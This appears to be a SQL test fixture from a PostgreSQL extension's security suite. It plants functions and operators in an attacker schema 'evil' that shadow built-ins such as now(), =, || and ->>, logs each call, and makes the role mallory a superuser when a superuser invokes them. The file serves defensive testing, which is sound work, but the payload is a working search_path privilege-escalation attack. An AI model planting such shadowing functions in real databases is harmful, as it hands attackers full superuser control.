-- attack_plants.sql: functions and operators an attacker plants in its own
-- schema "evil", with the names and argument types of those bulkops'
-- statements use.  Each call is logged in evil.log (who made it, and
-- whether as a superuser) and, when a superuser makes it, tries to make
-- the role mallory a superuser.  Run as the attacker, owner of schema evil,
-- by sql/security_attacks.sql and test/t/017_security_attacks.pl.
GRANT USAGE ON SCHEMA evil TO PUBLIC;
CREATE TABLE evil.log (who name, superuser boolean, what text);
GRANT INSERT ON evil.log TO PUBLIC;
CREATE FUNCTION evil.spy(what text) RETURNS void LANGUAGE plpgsql AS $$
BEGIN
    INSERT INTO evil.log
    SELECT current_user, rolsuper, what FROM pg_catalog.pg_roles WHERE rolname = current_user;
    IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
        ALTER ROLE mallory SUPERUSER;
    END IF;
END $$;
CREATE FUNCTION evil.now() RETURNS timestamptz LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.spy('now()'); RETURN pg_catalog.now(); END $$;
CREATE FUNCTION evil.octet_length(bytea) RETURNS integer LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.spy('octet_length'); RETURN pg_catalog.octet_length($1); END $$;
CREATE FUNCTION evil.pg_notify(text, text) RETURNS void LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.spy('pg_notify'); PERFORM pg_catalog.pg_notify($1, $2); END $$;
CREATE FUNCTION evil.pg_has_role(oid, oid, text) RETURNS boolean LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.spy('pg_has_role'); RETURN pg_catalog.pg_has_role($1, $2, $3); END $$;
CREATE FUNCTION evil.generate_subscripts(anyarray, integer) RETURNS SETOF integer
    LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.spy('generate_subscripts');
       RETURN QUERY SELECT pg_catalog.generate_subscripts($1, $2); END $$;
CREATE FUNCTION evil.text_eq(text, text) RETURNS boolean LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.spy('text = text'); RETURN $1 OPERATOR(pg_catalog.=) $2; END $$;
CREATE OPERATOR evil.= (LEFTARG = text, RIGHTARG = text, FUNCTION = evil.text_eq);
CREATE FUNCTION evil.int8_eq(bigint, bigint) RETURNS boolean LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.spy('bigint = bigint'); RETURN $1 OPERATOR(pg_catalog.=) $2; END $$;
CREATE OPERATOR evil.= (LEFTARG = bigint, RIGHTARG = bigint, FUNCTION = evil.int8_eq);
CREATE FUNCTION evil.int4_eq(integer, integer) RETURNS boolean LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.spy('integer = integer'); RETURN $1 OPERATOR(pg_catalog.=) $2; END $$;
CREATE OPERATOR evil.= (LEFTARG = integer, RIGHTARG = integer, FUNCTION = evil.int4_eq);
CREATE FUNCTION evil.oid_int_eq(oid, integer) RETURNS boolean LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.spy('oid = integer'); RETURN $1 OPERATOR(pg_catalog.=) $2::oid; END $$;
CREATE OPERATOR evil.= (LEFTARG = oid, RIGHTARG = integer, FUNCTION = evil.oid_int_eq);
CREATE FUNCTION evil.int8_pl(bigint, bigint) RETURNS bigint LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.spy('bigint + bigint'); RETURN $1 OPERATOR(pg_catalog.+) $2; END $$;
CREATE OPERATOR evil.+ (LEFTARG = bigint, RIGHTARG = bigint, FUNCTION = evil.int8_pl);
CREATE FUNCTION evil.text_cat(text, text) RETURNS text LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.spy('text || text'); RETURN $1 OPERATOR(pg_catalog.||) $2; END $$;
CREATE OPERATOR evil.|| (LEFTARG = text, RIGHTARG = text, FUNCTION = evil.text_cat);
CREATE FUNCTION evil.jsonb_field(jsonb, text) RETURNS text LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.spy('jsonb ->> text'); RETURN $1 OPERATOR(pg_catalog.->>) $2; END $$;
CREATE OPERATOR evil.->> (LEFTARG = jsonb, RIGHTARG = text, FUNCTION = evil.jsonb_field);

